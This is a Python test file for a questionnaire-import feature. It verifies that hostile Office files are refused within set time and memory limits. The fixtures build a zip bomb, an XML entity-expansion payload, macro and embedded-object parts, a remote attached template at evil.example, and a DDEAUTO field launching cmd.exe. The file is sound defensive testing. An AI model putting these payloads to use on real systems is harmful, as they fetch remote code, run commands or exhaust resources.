"""Files that no questionnaire is: each gets a clear sentence, soon, and takes little memory."""

import io
import resource
import subprocess
import sys
import time
import zipfile
from collections.abc import Callable, Iterator, Mapping
from pathlib import Path

import pytest
from flask import Flask
from openpyxl import Workbook

from tests.client import TrackerClient
from tests.papers.questionnaire.conftest import HandIn
from tests.papers.questionnaire.samples import packed, questionnaire_of, read_back, saved
from tracker.accounts.models import User
from tracker.papers.making import CannotBeMade
from tracker.papers.questionnaire.document_writing import document_of
from tracker.papers.questionnaire.makers import make_import
from tracker.papers.questionnaire.packages import FileRefused, look_at
from tracker.papers.questionnaire.workbook_writing import workbook_of

ROOT = Path(__file__).parents[3]
#: A reading ends within seconds and needs no more than this much memory beyond what stands already.
SECONDS, MEGABYTES = 20, 400


@pytest.fixture(autouse=True)
def _in_words(app: Flask) -> Iterator[None]:
    with app.test_request_context():
        yield


def changed(content: bytes, **parts: bytes) -> bytes:
    """The file with parts added or put in the place of others."""
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        before = {name: package.read(name) for name in package.namelist()}
    return packed(before | parts)


def with_part(name: str, content: bytes) -> Callable[[], bytes]:
    return lambda: changed(workbook_of(questionnaire_of()), **{name: content})


def macro_workbook() -> bytes:
    content = workbook_of(questionnaire_of())
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        types = package.read("[Content_Types].xml")
    macro = types.replace(
        b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    )
    return changed(content, **{"[Content_Types].xml": macro})


def bomb() -> bytes:
    return changed(workbook_of(questionnaire_of()), **{"xl/media/zeros.xml": b"<a>" + b" " * 40_000_000 + b"</a>"})


def many_rows() -> bytes:
    rows = b'<row><c t="inlineStr"><is><t>x</t></is></c></row>' * 100_000
    return changed(
        workbook_of(questionnaire_of()),
        **{"xl/worksheets/sheet2.xml": b"<worksheet><sheetData>" + rows + b"</sheetData></worksheet>"},
    )


def entities() -> bytes:
    grow = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "bbbbbbbbbb"><!ENTITY c "&b;&b;&b;&b;">]><a>&c;</a>'
    return changed(workbook_of(questionnaire_of()), **{"docProps/core.xml": grow})


def outside_template() -> bytes:
    relation = (
        b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="r1" Type="http://x/relationships/attachedTemplate" Target="http://evil.example/a.dotm" '
        b'TargetMode="External"/></Relationships>'
    )
    return changed(document_of(questionnaire_of()), **{"word/_rels/settings.xml.rels": relation})


def dynamic_exchange() -> bytes:
    content = document_of(questionnaire_of())
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        body = package.read("word/document.xml")
    field = b'<w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\\\cmd.exe "/k calc" </w:instrText></w:r></w:p>'
    return changed(content, **{"word/document.xml": body.replace(b"</w:p>", field, 1)})


def deep() -> bytes:
    return changed(document_of(questionnaire_of()), **{"word/document.xml": b"<a>" * 100_000 + b"</a>" * 100_000})


def plain_workbook() -> bytes:
    book = Workbook()
    book.active["A1"] = "Nothing of ours"
    return saved(book)


HOSTILE: Mapping[str, tuple[Callable[[], bytes], str]] = {
    "nothing": (lambda: b"", "neither an Excel workbook"),
    "a program": (lambda: b"MZ\x90\x00" * 100, "neither an Excel workbook"),
    "locked": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "locked with a password"),
    "a picture in a zip": (lambda: packed({"a.png": b"x"}), "neither an Excel workbook"),
    "OpenDocument": (lambda: packed({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet"}), "OpenDocument"),
    "cut in half": (lambda: workbook_of(questionnaire_of())[:6000], "damaged"),
    "with one byte changed": (lambda: _flipped(workbook_of(questionnaire_of())), "damaged"),
    "a bomb": (bomb, "too big"),
    "five hundred parts": (lambda: packed({f"{n}.xml": b"<a/>" for n in range(500)}), "too big"),
    "macros": (macro_workbook, "macros"),
    "a macro part": (with_part("xl/vbaProject.bin", b"x"), "macros"),
    "another file inside": (with_part("xl/embeddings/oleObject1.dat", b"x"), "holds another file"),
    "links to other workbooks": (with_part("xl/externalLinks/externalLink1.xml", b"<a/>"), "draws on other files"),
    "connections": (with_part("xl/connections.xml", b"<a/>"), "draws on other files"),
    "a template elsewhere": (outside_template, "draws on other files"),
    "dynamic data exchange": (dynamic_exchange, "draws on other files"),
    "entities": (entities, "declarations"),
    "100,000 rows": (many_rows, "far more rows"),
    "too deep": (deep, "far more rows"),
    "no XML": (with_part("xl/workbook.xml", b"\x00\x01"), "damaged"),
    "other XML": (with_part("xl/workbook.xml", b"<a/>"), "does not say which questionnaire"),
    "none of ours": (plain_workbook, "does not say which questionnaire"),
}


def _flipped(content: bytes) -> bytes:
    middle = content.index(b"xl/worksheets/sheet2.xml") + 200
    return content[:middle] + bytes([content[middle] ^ 0xFF]) + content[middle + 1 :]


@pytest.mark.parametrize("name", HOSTILE)
def test_each_is_refused_with_its_sentence(name: str) -> None:
    make, said = HOSTILE[name]
    content = make()
    began, before = time.monotonic(), resource.getrusage(resource.RUSAGE_SELF).ru_maxrss

    with pytest.raises(CannotBeMade) as refusal:
        make_import(
            {"source": content, "party": "AL", "meeting": "M", "today": None, "keys": ("k" * 40,)}, _no_progress
        )

    assert said in str(refusal.value)
    assert time.monotonic() - began < SECONDS
    assert (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1000 < MEGABYTES


def _no_progress(_done: int, _total: int, _words: str) -> None:
    """Nobody looks."""


def test_rows_far_below_are_not_read_and_findings_are_cut() -> None:
    buffer = io.BytesIO(workbook_of(questionnaire_of()))
    with zipfile.ZipFile(buffer) as package:
        sheet = package.read("xl/worksheets/sheet2.xml").decode()
    more = "".join(
        f'<row r="{row}"><c r="A{row}" t="inlineStr"><is><t>X-{row}</t></is></c></row>' for row in range(100, 9000)
    )
    content = changed(
        buffer.getvalue(), **{"xl/worksheets/sheet2.xml": sheet.replace("</sheetData>", more + "</sheetData>").encode()}
    )

    reading = read_back(content)

    assert len(reading.rows) == 3
    assert len(reading.findings) == 200


def test_links_to_click_on_and_pictures_are_let_be() -> None:
    relation = (
        b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" '
        b'Target="https://gov.example/law" TargetMode="External"/></Relationships>'
    )
    content = changed(
        workbook_of(questionnaire_of()),
        **{"xl/worksheets/_rels/sheet2.xml.rels": relation, "xl/media/image1.png": b"\x89PNG"},
    )

    assert look_at(content) == "xlsx"


def test_a_file_of_another_kind_is_refused_on_the_page(
    client: TrackerClient, coordinator: User, open_round: object, handing_in: HandIn
) -> None:
    client.sign_in(coordinator)

    for content, name, said in (
        (b"MZ\x90\x00" * 100, "questionnaire.exe", "Files of the kind .exe are not taken."),
        (b"MZ\x90\x00" * 100, "questionnaire.xlsx", "holds something else or is damaged"),
        (b"", "questionnaire.xlsx", "The file is empty."),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "questionnaire.xlsx", "protected by a password"),
        (macro_workbook(), "questionnaire.xlsx", "macros"),
        (bomb()[:-3], "questionnaire.xlsx", "damaged"),
    ):
        response = handing_in(content, name)
        assert response.status_code == 200
        assert said in response.text, name
    assert "Choose the file." in client.post("/parties/AL/questionnaire/hand-in", data={}).text


def test_pages_do_not_load_what_only_the_job_process_needs() -> None:
    script = (
        "import sys, tempfile, pathlib; from config import Config; from tracker import create_app;"
        "create_app(Config(SECRET_KEY='x' * 50, SQLALCHEMY_DATABASE_URI='sqlite://', TESTING=True,"
        " TRACKER_INSTANCE=pathlib.Path(tempfile.mkdtemp())));"
        "print(sorted(name for name in ('openpyxl', 'xlsxwriter', 'docx', 'tracker.making') if name in sys.modules))"
    )

    done = subprocess.run([sys.executable, "-c", script], cwd=ROOT, capture_output=True, text=True, check=True)

    assert done.stdout.strip() == "[]"


def test_refusals_of_the_look_are_refusals_of_the_domain() -> None:
    with pytest.raises(FileRefused, match="neither"):
        look_at(b"x")
